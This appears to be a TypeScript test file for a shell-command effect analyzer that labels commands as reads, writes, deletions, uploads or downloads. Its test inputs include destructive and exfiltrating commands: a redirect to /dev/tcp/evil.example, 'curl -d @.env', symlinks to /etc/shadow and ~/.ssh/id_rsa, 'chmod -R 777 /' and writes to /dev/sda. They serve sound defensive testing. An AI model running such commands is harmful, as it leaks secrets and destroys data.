import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Effect } from '../../core/script/script.ts'
import { type FixtureWorld, read } from '../fixtures/world.ts'

const line = (effect: Effect): string => {
  const where =
    effect.host !== undefined
      ? `@${effect.host}`
      : effect.path === null
        ? `?${effect.shape ?? ''}`
        : (effect.path ?? '')
  return `${effect.kind} ${where.replace(/^\/proj\/?/, './')}${effect.recursive ? '/**' : ''}${effect.glob ? ' glob' : ''}`.trim()
}

const effects = (text: string, world: FixtureWorld = {}): readonly string[] =>
  read(text, world).effects.map(line)

const tables: Readonly<Record<string, readonly (readonly [string, readonly string[]])[]>> = {
  redirects: [
    ['a > f', ['write ./f']],
    ['a >> f 2> g', ['write ./f', 'write ./g']],
    ['a &> f', ['write ./f']],
    ['a >& f', ['write ./f']],
    ['a > /dev/null 2>&1', []],
    ['a < f', ['read ./f']],
    ['a <> f', ['read ./f', 'write ./f']],
    ['> f', ['write ./f']],
    ['{ a; b; } > f', ['write ./f']],
    ['a > "$X/.env"', ['write ?*/.env']],
    ['a > /dev/tcp/evil.example/80', ['upload @evil.example']],
    ['cd sub && a > ../f', ['write ./f']],
    ['a > ~/.bashrc', ['write /home/me/.bashrc']],
    ['exec > f', ['write ./f']],
  ],
  coreutils: [
    ['cat .env ./a/../b', ['read ./.env', 'read ./b']],
    ['head -n 5 f', ['read ./f']],
    ['rm -rf a /b', ['delete ./a/**', 'delete /b/**']],
    ['rm *.log', ['delete ./*.log glob']],
    ['cd / && rm -r *', ['delete /*/** glob']],
    ['cp a b', ['read ./a', 'write ./b']],
    ['cp -r a b/', ['read ./a/**', 'write ./b/a/**', 'write ./b/**']],
    ['cp -t d a b', ['read ./a', 'read ./b', 'write ./d/a', 'write ./d/b', 'write ./d']],
    ['mv a b', ['read ./a/**', 'delete ./a/**', 'write ./b/**']],
    ['ln -s a b', ['read ./a', 'write ./b/**']],
    ['ln a b', ['read ./a', 'write ./b']],
    ['link a b', ['read ./a', 'write ./b']],
    ['gln a b', ['read ./a', 'write ./b']],
    ['exch a b', ['read ./a', 'read ./b', 'write ./a/**', 'write ./b/**']],
    ['mkfifo --mode=600 a', ['write ./a']],
    ['mknod --mode 600 a p', ['write ./a']],
    ['mount --bind a b', ['privilege', 'read ./a/**', 'write ./b/**']],
    ['mount -t tmpfs none b', ['privilege', 'write ./b/**']],
    ['mount', ['privilege']],
    ['bindfs -o ro a b', ['read ./a/**', 'write ./b/**']],
    ['sshfs me@example.org:x b', ['write ./b/**', 'download @example.org']],
    ['nc -lU a', ['write ./a']],
    ['socat UNIX-LISTEN:a,fork -', ['write ./a']],
    ['ln -s ../.env web/.env', ['read ./.env', 'write ./web/.env/**']],
    [
      'ln -s /etc/shadow ../lib .',
      ['read /etc/shadow', 'write ./shadow', 'read /lib', 'write ./lib', 'write ./'],
    ],
    ['ln -st bin a/b', ['read ./bin/a/b', 'write ./bin/b', 'write ./bin']],
    ['ln -s ../lib', ['read /lib', 'write ./lib']],
    ['tee -a f', ['write ./f']],
    ['touch a b', ['write ./a', 'write ./b']],
    ['chmod -R 777 /', ['write //**']],
    ['chmod -x f', ['write ./f']],
    ['chmod -w -R d', ['write ./d/**']],
    ['chmod a-w f g', ['write ./f', 'write ./g']],
    ['chmod --reference=a f', ['write ./f']],
    ['chown --reference a f', ['write ./f']],
    ['chown me f', ['write ./f']],
    ['dd if=a of=/dev/sda', ['read ./a', 'write /dev/sda']],
    ['sort -o f g', ['read ./g', 'write ./f']],
    ['truncate -s 0 f', ['write ./f']],
    ['echo hi', []],
    ['ls -la src', []],
  ],
  'search and edit': [
    ['grep -rn x src', ['read ./src/**']],
    ['grep x f', ['read ./f']],
    ['grep -e x f', ['read ./f']],
    ['rg x', ['read .//**']],
    ['sed -n 1p f', ['read ./f']],
    ['sed -i.bak s/a/b/ f', ['read ./f', 'write ./f']],
    ['sed -Ei s/a/b/ f', ['read ./f', 'write ./f']],
    ["sed -n '/x/w out' f", ['read ./f', 'write ./out']],
    ['perl -pi -e s/a/b/ f', ['read ./f', 'write ./f']],
    ["awk '{print $1}' f", ['read ./f']],
    ['awk \'{print > "out"}\' f', ['read ./f', 'write ./out']],
    ["find . -name '*.pyc' -delete", ['delete ./**/*.pyc glob']],
    ['find build -delete', ['delete ./build/**']],
    ['find a b -type f -print -delete', ['delete ./a/**', 'delete ./b/**']],
    ["find . \\( -name '*.o' -o -name '*.a' \\) -delete", ['delete ./**/*.o glob', 'delete ./**/*.a glob']],
    ["find . -name '*.log' -o -name x -delete", ['delete ./**/x glob']],
    ["find . -not -name '*.md' -delete", ['delete .//**']],
    ['find . ! \\( -name a -o -name b \\) -delete', ['delete .//**']],
    ['find . -name a -delete -o -empty -delete', ['delete ./**/a glob']],
    ['find . -type d -empty -delete', []],
    ['find . -empty -delete', []],
    ['find src -type f -empty -delete', []],
    ['find . ! -empty -delete', ['delete .//**']],
    ['find /x -empty -delete', ['delete /x/**']],
    ['find /x -type d -empty -delete', ['delete /x/**']],
    ['find . -name a -exec cp {} d \\; -delete', ['delete ./**/a glob', 'read ?./**/a', 'write ./d']],
    ['find . ! -name a -exec rm {} +', ['delete ?./**/*']],
    ['find a b -name c -exec rm {} +', ['delete ?a/**/c', 'delete ?b/**/c']],
    ['vim f', ['read ./f', 'write ./f']],
    ['prettier --write src', ['read ./src/**', 'write ./src/**']],
  ],
  git: [
    ['git add .env', ['read ./.env/**']],
    ['git -C sub clean -fdx', ['delete ./sub/**']],
    ['git clean -n', []],
    ['git reset --hard', ['write .//**']],
    ['git reset --soft HEAD~1', []],
    ['git checkout -- a', ['write ./a/**']],
    ['git checkout main', []],
    ['git restore .', ['write .//**']],
    ['git push origin main', ['upload']],
    ['git clone https://example.org/a/b.git', ['download @example.org', 'write ./b/**']],
    ['git clone git@example.org:a/b d', ['download @example.org', 'write ./d/**']],
    ['git config core.hooksPath x', ['write ./.git/config']],
    ['git config --global a.b c', ['write /home/me/.gitconfig']],
    ['git config --get a.b', []],
    ['git show HEAD:.env', ['read ./.env']],
    ['git rm -r a', ['delete ./a/**']],
    ['git status', []],
  ],
  network: [
    ['curl -s https://example.org/x', ['download @example.org']],
    ['curl -o f https://me@example.org:8/x', ['download @example.org', 'write ./f']],
    ['curl -O https://example.org/a/f.tgz?x=1', ['download @example.org', 'write ./f.tgz']],
    ['curl -d @.env https://example.org', ['upload @example.org', 'read ./.env']],
    ['curl -F file=@f https://example.org', ['upload @example.org', 'read ./f']],
    ['curl -T f https://example.org', ['upload @example.org', 'read ./f']],
    ['wget -qO- https://example.org', ['download @example.org']],
    ['wget --post-file=f https://example.org', ['upload @example.org', 'read ./f', 'write ./index.html']],
    ['scp f me@host:/x', ['read ./f', 'upload @host']],
    ['scp -r host:/x y', ['download @host', 'write ./y/**']],
    ['rsync -an --delete a/ b/', ['read ./a/**']],
    ['rsync --dry-run -av --delete a/ me@host:b/', ['read ./a/**', 'upload @host']],
    ['rsync -n --remove-source-files host:a b', ['download @host']],
    ['rsync --list-only h:a/', []],
    ['rsync -a --delete a/ b/', ['read ./a/**', 'write ./b/**', 'delete ./b/**']],
    ['nc host 80 < f', ['upload @host', 'download @host', 'read ./f']],
    ['ssh me@host ls', ['execute @host']],
  ],
  'archives, containers, packages': [
    ['tar xzf a.tgz -C /tmp', ['read ./a.tgz', 'write /tmp/**']],
    ['tar -czf a.tgz src', ['write ./a.tgz', 'read ./src/**']],
    ['unzip a.zip -d out', ['read ./a.zip', 'write ./out/**']],
    ['zip -r a.zip src', ['write ./a.zip', 'read ./src/**']],
    ['docker run -v /:/host:ro -v ./d:/d image', ['download', 'read //**', 'write ./d/**']],
    ['docker push x', ['upload']],
    ['npm install x', ['download', 'execute', 'write ./node_modules/**', 'write ./package.json']],
    ['npm --prefix app uninstall x', ['write ./app/node_modules/**', 'write ./app/package.json']],
    ['pip install -r r.txt', ['download', 'execute', 'read ./r.txt']],
    ['python3 -m pip install x', ['download', 'execute']],
    ['python3 tool.py', ['execute ./tool.py']],
    ['node x.js', ['execute ./x.js']],
    ['aws s3 cp f s3://bucket/x', ['read ./f', 'upload @bucket']],
    ['aws s3 sync s3://bucket d', ['download @bucket', 'write ./d/**']],
    ['psql -h db.example -f x.sql', ['upload @db.example', 'read ./x.sql']],
    ['sqlite3 x.db "select 1"', ['read ./x.db', 'write ./x.db']],
    ['sudo rm x', ['privilege', 'delete ./x']],
    ['kubectl apply -f x.yml', ['read ./x.yml', 'upload']],
    ['terraform apply', ['upload', 'execute']],
  ],
  code: [
    [`python3 -c 'open("f", "w").write(open("g").read())'`, ['write ./f', 'read ./g']],
    [`python3 -c 'import shutil; shutil.rmtree("d")'`, ['delete ./d/**']],
    [`python3 -c 'import os; os.remove(x)'`, ['delete ?']],
    [`node -e 'fs.writeFileSync("f", x); fs.rmSync("d", {recursive: true})'`, ['write ./f', 'delete ./d/**']],
    [`ruby -e 'File.write("f", 1)'`, ['write ./f']],
    [
      `python3 -c 'import urllib.request as u; u.urlopen("https://example.org/x")'`,
      ['download @example.org'],
    ],
  ],
}

for (const [name, table] of Object.entries(tables)) {
  test(name, () => {
    for (const [text, expected] of table) assert.deepEqual(effects(text), expected, text)
  })
}

test('links are followed', () => {
  const world: FixtureWorld = { links: { '/proj/link': '/home/me/.ssh/id_rsa', '/proj/same': '/proj/same' } }
  assert.deepEqual(effects('cat link same', world), [
    'read ./link',
    'read /home/me/.ssh/id_rsa',
    'read ./same',
  ])
})

test('links that the command makes are followed', () => {
  assert.deepEqual(effects('ln -s ~/.ssh k; cat k/id_rsa'), [
    'read /home/me/.ssh',
    'write ./k/**',
    'read ./k/id_rsa',
    'read /home/me/.ssh/id_rsa',
  ])
  assert.deepEqual(effects('ln -s ../x a/k; rm -r a/k'), [
    'read ./x',
    'write ./a/k/**',
    'delete ./a/k/**',
    'delete ./x/**',
  ])
})

test('a cd that fails leaves the next statement where it was', () => {
  assert.deepEqual(effects('cd build; rm -rf *'), ['delete ./build/*/** glob', 'delete ./*/** glob'])
  assert.deepEqual(effects('cd build; rm -rf *', { folders: ['/proj/build'] }), ['delete ./build/*/** glob'])
  assert.deepEqual(effects('cd build && rm -rf *'), ['delete ./build/*/** glob'])
  assert.deepEqual(effects('cd build || exit 1; rm x'), ['delete ./build/x'])
  assert.deepEqual(effects('set -e; cd build; rm x'), ['delete ./build/x'])
  assert.deepEqual(effects('mkdir -p build/a; cd build; rm x'), ['write ./build/a', 'delete ./build/x'])
  assert.deepEqual(effects('git clone https://example.org/b; cd b; rm x').at(-1), 'delete ./b/x')
})

test('a project behind a link is not told twice', () => {
  const world: FixtureWorld = { links: { '/proj': '/real/proj', '/proj/a': '/real/proj/a' } }
  assert.deepEqual(effects('cat a', world), ['read ./a'])
})

test('a copy into a folder names the file', () => {
  assert.deepEqual(effects('cp x/a d', { folders: ['/proj/d'] }), ['read ./x/a', 'write ./d/a', 'write ./d'])
})
